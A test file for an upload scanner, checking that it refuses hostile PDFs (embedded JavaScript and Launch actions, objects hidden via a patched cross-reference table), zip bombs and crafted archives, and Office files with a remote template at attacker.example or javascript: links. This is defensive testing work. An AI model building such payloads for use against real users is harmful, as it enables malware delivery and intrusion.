import { writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fileMessages, filePurposes } from '../../../common/files.ts';
import { cleanFiles, hostileFiles, lyingZipEntry } from '../../test/hostile-files.ts';
import {
  buildPdf,
  cfb,
  deflatedEntry,
  deflatedZeros,
  documentObjects,
  docx,
  encodings,
  rawZip,
  relationshipTypes,
  scriptAction,
  storedEntry,
  xlsx,
  zipSync,
} from '../../test/sample-files.ts';
import { inspectFile } from './inspect.ts';
import { findHarmfulName, PdfBombError } from './pdf.ts';
import { readWithPdfJs } from './pdf-reader.ts';
import { createScanner } from './scanner.ts';
import { readZip, ZipError } from './zip.ts';

/**
 * The rules of spec §5 Files, decision 015 and decision 033 (issue #23 item 1), without HTTP
 * or a database: each sample of the corpus gets its verdict, and each of the two PDF readings
 * is shown to do its part on its own.
 */

const reasonOf = Object.fromEntries(Object.entries(fileMessages).map(([reason, key]) => [key, reason]));

describe('the hostile-file corpus, judged (spec §5 Files; issue #23 item 1)', () => {
  for (const item of hostileFiles.filter((f) => f.message !== 'validation.file.size')) {
    it(`refuses ${item.name} (${item.message})`, async () => {
      const verdict = await inspectFile(item.bytes(), filePurposes[item.purpose].kinds);
      expect(verdict).toMatchObject({ ok: false, reason: reasonOf[item.message] });
    });
  }
  for (const item of cleanFiles) {
    it(`accepts ${item.name}`, async () => {
      expect(await inspectFile(item.bytes(), filePurposes[item.purpose].kinds)).toEqual({
        ok: true,
        kind: item.kind,
      });
    });
  }
});

describe('PDF: two readings, each refusing on its own (decision 033)', () => {
  const harmful = hostileFiles.filter((f) => f.message === 'validation.file.pdfScript');

  for (const item of harmful) {
    it(`the object reading alone refuses ${item.name}`, async () => {
      const found = await findHarmfulName(item.bytes()).catch((error: unknown) =>
        error instanceof PdfBombError ? 'bomb' : Promise.reject(error),
      );
      expect(found).toBeDefined();
    });
  }
  for (const item of harmful.filter((f) => f.pdfJsSees)) {
    // The probe's evidence: pdf.js, a real reader, sees the script (or XFA, or file) in each.
    it(`pdf.js alone refuses ${item.name}`, async () => {
      expect(await readWithPdfJs(item.bytes())).toBe('harmful');
    });
  }
  for (const item of cleanFiles.filter((f) => f.kind === 'pdf')) {
    it(`both readings accept ${item.name}`, async () => {
      const bytes = item.bytes();
      expect(await findHarmfulName(bytes)).toBeUndefined();
      expect(await readWithPdfJs(bytes)).toBe('ok');
    });
  }

  it('reads names as a reader does: NUL and every delimiter end a name, #xx escapes are decoded', async () => {
    const withNul = buildPdf({ objects: documentObjects({ catalog: '/Zz << /A\0/JavaScript\0>>' }) });
    expect(await findHarmfulName(withNul)).toBe('JavaScript');
    const escaped = buildPdf({ objects: documentObjects({ catalog: '/Zz /L#61unch' }) });
    expect(await findHarmfulName(escaped)).toBe('Launch');
  });

  it('does not mistake strings, comments, page text or longer names for harmful names', async () => {
    const bytes = buildPdf({
      objects: documentObjects({
        catalog: '/Info (see /JavaScript and /Launch) /JSONData 6 0 R /Launcher (x) % /JS in a comment',
        text: 'Use /JS at your peril',
        extra: ['<< /Comment <2f4a53> >>'],
      }),
    });
    expect(await findHarmfulName(bytes)).toBeUndefined();
    expect(await inspectFile(bytes, ['pdf'])).toEqual({ ok: true, kind: 'pdf' });
  });

  it('finds an object hidden in another stream’s data, where the cross-reference table sends a reader', async () => {
    // Object 6 lives inside object 7's data; only the table (and a reader following it) finds it.
    const hidden = `6 0 obj\n${scriptAction}\nendobj\n`;
    const base = buildPdf({
      objects: documentObjects({
        catalog: '/OpenAction 6 0 R',
        extra: ['null', { dict: '', data: Buffer.from(`xxxx${hidden}`) }],
      }),
    });
    const at = base.indexOf('6 0 obj\n<< /S');
    const table = base.indexOf('xref\n');
    const rows = base.toString('latin1', table).split('\n');
    rows[8] = `${String(at).padStart(10, '0')} 00000 n `;
    const patched = Buffer.concat([base.subarray(0, table), Buffer.from(rows.join('\n'), 'latin1')]);
    expect(await readWithPdfJs(patched)).toBe('harmful');
    expect(await findHarmfulName(patched)).toBe('JavaScript');
  });

  it('refuses an object stream whose filter cannot be decoded rather than passing it unread', async () => {
    const bytes = buildPdf({
      objects: documentObjects({ extra: ['<< /A 1 >>'] }),
      objectStream: { members: [6], encoding: { encode: (b) => b, filter: '/Filter /DCTDecode' } },
    });
    expect(await inspectFile(bytes, ['pdf'])).toMatchObject({ ok: false, reason: 'pdfScript' });
  });

  it('accepts a 40 MB document of 400 pages with images (the spec §9 limit)', async () => {
    // 400 pages of text, each with a 96 KB incompressible image: ~39 MB.
    const { randomBytes } = await import('node:crypto');
    const { deflateSync } = await import('node:zlib');
    const objects: Parameters<typeof buildPdf>[0]['objects'] = [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ];
    const kids: string[] = [];
    for (let i = 0; i < 400; i++) {
      const n = objects.length + 1;
      objects.push(
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${n + 1} 0 R /Resources << /Font << /F1 3 0 R >> /XObject << /Im ${n + 2} 0 R >> >> >>`,
        {
          dict: '/Filter /FlateDecode',
          data: deflateSync(Buffer.from(`BT /F1 12 Tf 72 760 Td (Page ${i}) Tj ET`)),
        },
        {
          dict: '/Type /XObject /Subtype /Image /Width 320 /Height 300 /ColorSpace /DeviceGray /BitsPerComponent 8',
          data: randomBytes(96_000),
        },
      );
      kids.push(`${n} 0 R`);
    }
    objects[1] = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count 400 >>`;
    const big = buildPdf({ objects });
    expect(big.length).toBeGreaterThan(38_000_000);
    expect(await inspectFile(big, ['pdf'])).toEqual({ ok: true, kind: 'pdf' });
  }, 60_000); // a ceiling for 40 MB on a busy machine, not a speed check: bench/README.md has the figures
});

describe('zip archives: real output counted, declared sizes never trusted (issue #23 finding 7)', () => {
  const expectProblem = async (bytes: Uint8Array, problem: string) => {
    const error = await readZip(bytes).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ZipError);
    expect((error as ZipError).problem).toBe(problem);
  };

  it('refuses an entry that inflates past what both headers declare, inflating only that far', async () => {
    const error = await readZip(rawZip([lyingZipEntry('a.pdf')])).catch((e: unknown) => e);
    expect(error).toMatchObject({ problem: 'bomb', message: 'inflates past what it declares or the limit' });
  });

  it('refuses an entry that inflates to less than it declares, and a wrong CRC', async () => {
    const short = deflatedEntry('a.txt', Buffer.from('short'), 500);
    await expectProblem(rawZip([short]), 'bomb');
    const wrongCrc = { ...deflatedEntry('a.txt', Buffer.from('content')), crc: 1 };
    await expectProblem(rawZip([wrongCrc]), 'unreadable');
  });

  it('stops at the output cap when nesting is allowed but the content is 1 GB', async () => {
    const zeros = deflatedZeros(100);
    const gigabyte = rawZip(
      Array.from({ length: 10 }, (_, i) => ({
        name: `p${i}`,
        data: zeros.data,
        method: 8 as const,
        crc: zeros.crc,
        declaredSize: 100 * 1_048_576,
      })),
    );
    // Two levels (allowed): refused by the 256 MB cap on real output, not by nesting.
    await expectProblem(rawZip([storedEntry('inner.zip', gigabyte)]), 'bomb');
  });

  it('refuses archives nested three deep even when small', async () => {
    const level3 = zipSync({ 'a.txt': new TextEncoder().encode('a') });
    await expectProblem(zipSync({ 'b.zip': zipSync({ 'c.zip': level3 }) }), 'nesting');
    expect((await readZip(zipSync({ 'b.zip': level3 }))).map((p) => [p.name, p.depth])).toEqual([
      ['b.zip', 0],
      ['a.txt', 1],
    ]);
  });

  it('refuses encrypted entries, unknown methods, shared names and headers that disagree', async () => {
    const base = rawZip([storedEntry('a.txt', Buffer.from('a'))]);
    const encrypted = Buffer.from(base);
    encrypted.writeUInt16LE(1, encrypted.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 8);
    await expectProblem(encrypted, 'unreadable');
    const bzip2 = { ...storedEntry('a.txt', Buffer.from('a')), method: 12 as unknown as 0 };
    await expectProblem(rawZip([bzip2]), 'unreadable');
    await expectProblem(
      rawZip([storedEntry('a.txt', Buffer.from('a')), storedEntry('a.txt', Buffer.from('b'))]),
      'unreadable',
    );
    const renamed = Buffer.from(base);
    renamed.write('b', 30, 'latin1'); // the local header's name
    await expectProblem(renamed, 'unreadable');
  });

  it('counts every nested byte against one budget and keeps only what is asked', async () => {
    const parts = await readZip(
      zipSync({ 'k.xml': new TextEncoder().encode('<a/>'), 'x.bin': new Uint8Array(10) }),
      (n) => n === 'k.xml',
    );
    expect(parts.find((p) => p.name === 'k.xml')?.content?.toString()).toBe('<a/>');
    expect(parts.find((p) => p.name === 'x.bin')?.content).toBeUndefined();
  });
});

describe('Office Open XML by content types and relationships (issue #23 finding 7)', () => {
  it('reads relationships written in UTF-16 as Office does', async () => {
    const rels =
      '<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rId1" Type="${relationshipTypes.attachedTemplate}" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>`;
    const bytes = docx({
      parts: {
        'word/_rels/settings.xml.rels': Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(rels, 'utf16le'),
        ]),
      },
    });
    expect(await inspectFile(bytes, ['docx'])).toMatchObject({ ok: false, reason: 'macro' });
  });

  it('judges the kind by the main part’s content type, not by its name', async () => {
    // A workbook whose main part is not at xl/workbook.xml is still a workbook.
    expect(await inspectFile(xlsx(), ['xlsx'])).toEqual({ ok: true, kind: 'xlsx' });
    const noTypes = zipSync({
      '[Content_Types].xml': new TextEncoder().encode('<Types/>'),
      'xl/workbook.xml': new Uint8Array(1),
    });
    expect(await inspectFile(noTypes, ['xlsx'])).toEqual({
      ok: false,
      reason: 'type',
      detail: 'no workbook or document part',
    });
    // A Word document where only spreadsheets are allowed.
    expect(await inspectFile(docx(), ['xlsx', 'xls', 'pdf'])).toMatchObject({ ok: false, reason: 'type' });
  });

  it('refuses compound-file content in any part, whatever its name and type', async () => {
    const bytes = xlsx({ parts: { 'xl/media/photo.png': cfb(['Root Entry', 'Contents']) } });
    expect(await inspectFile(bytes, ['xlsx'])).toMatchObject({ ok: false, reason: 'macro' });
  });

  it('allows web and mail hyperlinks, refuses every other external target', async () => {
    const link = (target: string) =>
      inspectFile(
        xlsx({ relationships: [{ id: 'rId9', type: relationshipTypes.hyperlink, target, external: true }] }),
        ['xlsx'],
      );
    expect(await link('https://example.org/a')).toEqual({ ok: true, kind: 'xlsx' });
    expect(await link('mailto:a@example.org')).toEqual({ ok: true, kind: 'xlsx' });
    expect(await link('\\\\host\\share')).toMatchObject({ ok: false, reason: 'macro' });
    expect(await link('javascript:alert(1)')).toMatchObject({ ok: false, reason: 'macro' });
  });
});

describe('the scanner runs inspection in worker threads, in limits (issue #23 item 1)', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'spp-scan-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it('gives the same verdicts as inspection in this thread, several files at once', async () => {
    const scanner = createScanner({ workers: 2 });
    try {
      const samples = [
        ...cleanFiles.slice(0, 3).map((f) => ({ bytes: f.bytes(), kinds: filePurposes[f.purpose].kinds })),
        ...hostileFiles.slice(1, 4).map((f) => ({ bytes: f.bytes(), kinds: filePurposes[f.purpose].kinds })),
      ];
      const verdicts = await Promise.all(
        samples.map(async (s, i) => {
          const file = path.join(dir, `s${i}`);
          writeFileSync(file, s.bytes);
          return scanner.scan(file, s.kinds);
        }),
      );
      expect(verdicts).toEqual(await Promise.all(samples.map((s) => inspectFile(s.bytes, s.kinds))));
    } finally {
      await scanner.close();
    }
  });

  it('stops a scan past its time limit and refuses the file as harmful, then scans again', async () => {
    const scanner = createScanner({ workers: 1, timeoutMs: 1 });
    const file = path.join(dir, 'slow.pdf');
    writeFileSync(
      file,
      buildPdf({
        objects: documentObjects(),
        objectStream: { members: [1, 2, 3, 5], encoding: encodings.flate },
      }),
    );
    try {
      expect(await scanner.scan(file, ['pdf'])).toEqual({
        ok: false,
        reason: 'pdfScript',
        detail: 'time limit',
      });
    } finally {
      await scanner.close();
    }
    const patient = createScanner({ workers: 1 });
    try {
      expect(await patient.scan(file, ['pdf'])).toEqual({ ok: true, kind: 'pdf' });
    } finally {
      await patient.close();
    }
  });
});
